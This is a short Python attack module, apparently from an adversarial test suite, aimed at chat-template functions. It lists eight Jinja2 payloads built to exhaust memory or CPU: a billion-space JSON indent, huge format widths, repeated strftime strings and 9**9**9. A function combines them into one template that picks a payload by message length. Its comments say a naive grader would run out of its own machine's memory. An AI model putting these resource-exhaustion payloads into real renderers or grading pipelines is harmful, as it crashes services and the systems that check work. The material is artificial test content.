# attack: returns a chat template that makes gigabytes with what the renderer offers: JSON with margins, dates, filters
# group: h
# targets: make_training_template fix_chat_template
# ends: wrong error timeout memory crashed
# control: none: a naive grader would take the memory of its own machine

FORMS = (
    "{{ messages|tojson(indent=1000000000) }}",
    "{{ strftime_now('%A' * 200000000) }}",
    "{{ 'a b'|indent(1000000000, true) }}",
    "{{ ('a ' * 50000)|wordwrap(1, true, 'B' * 50000) }}",
    "{{ '%*d'|format(2000000000, 1) }}",
    "{{ '{:2000000000}'.format(1) }}",
    "{{ (messages|list * 20000000)|length }}",
    "{{ 9 ** 9 ** 9 }}",
)


def attack(*args, **kwargs):
    """Return a template with all forms, of which each conversation meets one: its letters decide."""
    chosen = "".join(
        f"{{%- if messages|string|length % {len(FORMS)} == {number} %}}{form}{{%- endif %}}"
        for number, form in enumerate(FORMS)
    )
    return "{%- generation %}" + chosen + "{%- endgeneration %}"
